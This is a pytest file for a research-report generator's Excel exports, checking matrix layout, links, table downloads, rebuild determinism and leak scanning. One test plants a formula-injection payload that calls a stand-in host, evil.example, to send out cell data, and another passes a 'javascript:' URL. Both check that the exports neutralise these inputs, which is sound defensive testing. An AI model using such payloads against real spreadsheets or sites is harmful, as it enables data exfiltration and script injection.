"""The framework matrix and computed tables as Excel workbooks, read back as a reviewer opens them."""

from __future__ import annotations

import csv
import html as html_lib
import io
import posixpath
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from generator.build import build
from generator.content.themes import resolve_themes
from generator.pipeline import load_and_validate
from tests.conftest import DEMO


@pytest.fixture(scope="module")
def study():  # type: ignore[no-untyped-def]
    return load_and_validate(DEMO)[0]


def _resolves(workbook: Path, link: str) -> bool:
    target = posixpath.normpath(posixpath.join(workbook.parent.as_posix(), link.split("#")[0]))
    return Path(target).is_file()


def test_matrix_workbook_rows_columns_links_and_colours(demo_site: Path, study) -> None:  # type: ignore[no-untyped-def]
    path = demo_site / "cross-case" / "framework-matrix.xlsx"
    book = openpyxl.load_workbook(path)
    sheet = book["Matrix"]
    themes = resolve_themes(study.project.model, [c.model for c in study.codes])
    codes = [c.model for c in study.codes]
    header = [c.value for c in sheet[5]]
    assert header[:2] == ["Site", "Local authority"] and len(header) == 2 + len(codes)
    assert {h.split(" · ")[0] for h in header[2:]} == {c.id for c in codes}
    sites = [row[0].value for row in sheet.iter_rows(min_row=6)]
    assert sorted(sites) == sorted(s.model.name for s in study.sites)
    assert sheet.freeze_panes == "C6"  # header rows and site columns stay while scrolling
    documents = {(d.model.site, d.model.code) for d in study.code_documents}
    site_id = {s.model.name: s.model.id for s in study.sites}
    filled = 0
    for row in sheet.iter_rows(min_row=6):
        for cell, code in zip(row[2:], header[2:]):
            key = (site_id[row[0].value], code.split(" · ")[0])
            assert (cell.value is not None) == (key in documents), key
            if cell.value is not None:
                filled += 1
                assert cell.hyperlink is not None and _resolves(path, cell.hyperlink.target), cell.hyperlink
                assert re.search(r"\d+ extracts? · \d+ sources?$", cell.value)
                assert "```" not in cell.value and "table:" not in cell.value  # the summary's words, never a block
    assert filled == len(documents)
    for column, code in enumerate(header[2:], 3):
        theme = themes.of[code.split(" · ")[0]]
        assert sheet.cell(row=5, column=column).fill.fgColor.rgb[-6:] == theme.colour.lstrip("#").upper()


def test_a_sheet_of_extracts_per_code_each_linked(demo_site: Path, study) -> None:  # type: ignore[no-untyped-def]
    path = demo_site / "cross-case" / "framework-matrix.xlsx"
    book = openpyxl.load_workbook(path)
    frame = book["Coding frame"]
    assert [c.value for c in frame[1]][:3] == ["Theme", "Code", "Label"]
    from generator.view import extract_view

    for code in study.codes:
        wanted = {(s.model.id, e.id) for s in study.sources for e in s.extracts
                  if code.model.id in e.codes and not extract_view(s, e).removed}
        if not wanted:
            assert code.model.id not in book.sheetnames
            continue
        sheet = book[code.model.id]
        rows = list(sheet.iter_rows(min_row=3))
        assert len(rows) == len(wanted)
        for row in rows:
            assert row[3].hyperlink is not None and _resolves(path, row[3].hyperlink.target)
            assert row[3].hyperlink.target.endswith("#" + row[3].value)


def test_each_la_workbook_holds_only_its_own_sites(demo_site: Path, study) -> None:  # type: ignore[no-untyped-def]
    for la in study.local_authorities:
        path = demo_site / "la" / la.model.id / "framework-matrix.xlsx"
        own = sorted(s.model.name for s in study.sites if s.model.la == la.model.id)
        if not own:
            assert not path.exists()
            continue
        sheet = openpyxl.load_workbook(path)["Matrix"]
        assert sorted(row[0].value for row in sheet.iter_rows(min_row=6)) == own


def test_text_that_looks_like_a_formula_stays_text(mini: Path, tmp_path: Path) -> None:
    document = next(p for p in mini.rglob("*.md") if "type: code_document" in p.read_text(encoding="utf-8"))
    text = document.read_text(encoding="utf-8")
    front, body = text.split("---\n", 2)[1:]
    document.write_text(f"---\n{front}---\n=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") {body}", "utf-8")
    assert build(mini, out=tmp_path / "site", quiet=True) == 0
    workbook = tmp_path / "site" / "cross-case" / "framework-matrix.xlsx"
    with zipfile.ZipFile(workbook) as archive:
        sheets = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
        strings = archive.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in archive.namelist() else ""
    assert "<f>" not in sheets and "<f " not in sheets  # no formula anywhere
    cells = [c.value for row in openpyxl.load_workbook(workbook)["Matrix"].iter_rows() for c in row]
    assert any(isinstance(v, str) and v.startswith("=HYPERLINK") for v in cells) or "HYPERLINK" in strings
    for row in openpyxl.load_workbook(workbook)["Matrix"].iter_rows():
        for cell in row:
            if cell.hyperlink is not None:
                assert "evil.example" not in cell.hyperlink.target


def test_workbooks_are_the_same_bytes_on_a_rebuild(mini: Path, tmp_path: Path) -> None:
    for name in ("a", "b"):
        assert build(mini, out=tmp_path / name, quiet=True) == 0
    first = sorted((tmp_path / "a").rglob("*.xlsx"))
    assert first
    for path in first:
        assert path.read_bytes() == (tmp_path / "b" / path.relative_to(tmp_path / "a")).read_bytes()


def _page_tables(page: Path) -> list[tuple[list[list[str]], str, str]]:
    """Each computed table on a page: its cells as shown, and its CSV and Excel links."""
    html = page.read_text(encoding="utf-8")
    found = []
    for match in re.finditer(r'<div class="gen-table-wrap gen-computed".*?</table>.*?href="([^"]+\.csv)" download>CSV'
                             r'</a> · <a href="([^"]+\.xlsx)"', html, re.S):
        table = match.group(0)
        rows = [[html_lib.unescape(re.sub(r"<[^>]+>", "", cell)).strip() for cell in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)]
                for row in re.findall(r"<tr>(.*?)</tr>", table, re.S)]
        found.append((rows, match.group(1), match.group(2)))
    return found


def _as_shown(value: object, number_format: str) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    if number_format == "0.0%":
        return f"{float(value) * 100:,.1f}%"
    if number_format == "£#,##0":
        return f"£{float(value):,.0f}"
    if number_format == "#,##0.0":
        return f"{float(value):,.1f}"
    if number_format == "#,##0":
        return f"{int(value):,}"
    return str(value)


@pytest.mark.parametrize("audience", ["internal", "public"])
def test_computed_table_downloads_say_what_the_page_says(audience: str, demo_site: Path,
                                                        tmp_path_factory: pytest.TempPathFactory) -> None:
    if audience == "public":
        site = tmp_path_factory.mktemp("public") / "site"
        assert build(DEMO, out=site, quiet=True, audience="public", la="harrowmere") == 0
    else:
        site = demo_site / "cross-case"
    checked = 0
    for page in sorted(site.rglob("*.html")):
        for shown, csv_link, xlsx_link in _page_tables(page):
            csv_path = (page.parent / csv_link).resolve()
            xlsx_path = (page.parent / xlsx_link).resolve()
            assert csv_path.is_file() and xlsx_path.is_file(), page
            body = [r for r in shown[1:]]
            book = openpyxl.load_workbook(xlsx_path)
            sheet = book.worksheets[0]
            cells = [[_as_shown(c.value, c.number_format) for c in row] for row in sheet.iter_rows(min_row=4,
                                                                                              max_row=3 + len(body))]
            for page_row, sheet_row in zip(body, cells):
                assert [v.replace("–", "") for v in page_row] == sheet_row[:len(page_row)], (page, page_row)
            assert sheet.max_row == 3 + len(body)  # nothing beneath the table: its notes have their own sheet
            rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
            end = rows.index([]) if [] in rows else len(rows)
            assert end == 1 + len(body)
            footnotes = [row[0] for row in rows[end + 1:]]
            notes_sheet = {row[0]: row[1] for row in book["Notes"].iter_rows(min_row=3, values_only=True)}
            said = html_lib.unescape(re.sub(r"<[^>]+>", "", page.read_text(encoding="utf-8")))
            for line in footnotes:  # every footnote of the download is on the page, and in the workbook's notes
                label, _, text = line.partition(": ")
                assert " ".join(text.split()) in " ".join(said.split()), (page, line)
                assert text in notes_sheet.values()
                if label not in ("Note", "Source"):
                    assert notes_sheet[label] == text  # a symbol and its meaning
            if any("c" in row for row in body):
                assert any(line.startswith("c: suppressed to protect privacy") for line in footnotes)
            for page_row, csv_row in zip(body, rows[1:]):
                assert page_row[0] == csv_row[0]
                if "c" in page_row:
                    assert "c" in csv_row  # hidden on the page, hidden in the download
            checked += 1
    assert checked >= (1 if audience == "public" else 3)


def test_export_xlsx_command(tmp_path: Path, study, capsys: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
    from generator.cli import main

    la = sorted(s.model.la for s in study.sites)[0]
    out = tmp_path / "matrix.xlsx"
    assert main(["export", "xlsx", str(DEMO), "--out", str(out), "--la", la,
                 "--site-url", "https://reports.example.org/la/x/"]) == 0
    assert "sites x" in capsys.readouterr().out
    book = openpyxl.load_workbook(out)
    links = [c.hyperlink.target for row in book["Matrix"].iter_rows() for c in row if c.hyperlink is not None]
    assert links and all(link.startswith("https://reports.example.org/la/x/code-documents/") for link in links)
    assert main(["export", "xlsx", str(DEMO), "--out", str(out), "--site-url", "javascript:alert(1)"]) == 2
    precious = tmp_path / "mine.xlsx"
    precious.write_bytes(b"not a workbook")
    assert main(["export", "xlsx", str(DEMO), "--out", str(precious)]) == 1
    assert precious.read_bytes() == b"not a workbook"


def test_leak_scan_reads_inside_workbooks(tmp_path: Path, study) -> None:  # type: ignore[no-untyped-def]
    from generator.exports.xlsx import Sheet, workbook_bytes
    from generator.leaks import find_leaks, foreign_names

    la, other = sorted(study.local_authorities, key=lambda d: d.model.id)[:2]
    (tmp_path / "t.xlsx").write_bytes(workbook_bytes([Sheet("S", rows=[["said in", other.model.name.upper()]])]))
    problems = find_leaks(tmp_path, foreign_names(study, la.model.id), "site")
    assert len(problems) == 1 and "t.xlsx" in str(problems[0].location)
    (tmp_path / "t.xlsx").write_bytes(workbook_bytes([Sheet("S", rows=[["said in", la.model.name]])]))
    assert find_leaks(tmp_path, foreign_names(study, la.model.id), "site") == []


def test_a_workbook_is_kept_by_the_hash_of_its_sheets(tmp_path: Path) -> None:
    from generator.exports.xlsx import Sheet, workbook_bytes

    cache = tmp_path / "workbooks"
    sheet = Sheet("Table", rows=[["year", "count"], ["2020", 12]])
    first = workbook_bytes([sheet], cache)
    assert workbook_bytes([sheet], cache) == first == workbook_bytes([sheet])  # the same bytes, kept or made
    assert len(list(cache.iterdir())) == 1
    changed = workbook_bytes([Sheet("Table", rows=[["year", "count"], ["2020", 13]])], cache)
    assert changed != first and len(list(cache.iterdir())) == 2
